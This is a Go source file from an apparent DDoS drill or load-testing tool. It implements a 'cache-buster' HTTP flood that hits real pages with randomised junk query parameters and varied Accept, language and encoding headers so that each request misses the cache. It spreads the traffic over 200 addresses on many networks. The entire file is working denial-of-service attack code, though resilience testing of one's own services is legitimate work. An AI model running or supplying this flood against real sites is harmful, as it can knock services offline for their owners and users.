package attack

import (
	"fmt"
	"net/http"
	"strings"

	"kontor/drill/browser"
)

func init() { kinds["cache-buster"] = newCacheBuster }

// newCacheBuster asks for real pages in ways that a cache takes for new ones:
// names and values nobody asks for in the query, capitals, and headers on which
// answers might depend. 200 addresses, twice a second each.
func newCacheBuster(p Params) (Attack, error) {
	sources, total, err := p.spread(usual{addresses: 200, rate: 2, networks: "many"})
	if err != nil {
		return nil, err
	}
	return &flood{sources, total, p.Connections, func(t Target) (func(uint64, *client) request, func(uint64, *client, answer), error) {
		if err := t.check(p); err != nil {
			return nil, nil, err
		}
		pages := t.Paths
		if p.Path != "" {
			pages = []string{p.Path}
		}
		return func(i uint64, _ *client) request {
			n := mix(p.Seed + i)
			path := pages[n%uint64(len(pages))]
			sign := "?"
			if strings.Contains(path, "?") {
				sign = "&"
			}
			path += sign + odd[n>>8%uint64(len(odd))] + fmt.Sprintf("=%016x", mix(n))
			return t.page(browser.Desk, path, "", func(h http.Header) {
				h.Set("Accept", accepts[n>>16%uint64(len(accepts))])
				h.Set("Accept-Language", fmt.Sprintf("%c%c;q=0.%d,en;q=0.5", 'a'+n>>24%26, 'a'+n>>32%26, 1+n>>40%9))
				h.Set("Accept-Encoding", encodings[n>>48%uint64(len(encodings))])
			})
		}, nil, nil
	}}, nil
}

// What varies beside the random value: names of the query, what is taken.
var (
	odd       = []string{"_", "utm_source", "fbclid", "gclid", "page", "q", "ref", "v", "sort", "%71", "cb", "t"}
	accepts   = []string{"*/*", "text/html", "text/html;q=0.9,*/*;q=0.1", "application/xhtml+xml,text/html", "image/avif,text/html", "text/*"}
	encodings = []string{"gzip", "gzip, deflate", "gzip;q=0.5", "identity", "br;q=0.1, gzip", "deflate, gzip;q=1.0, *;q=0.5"}
)
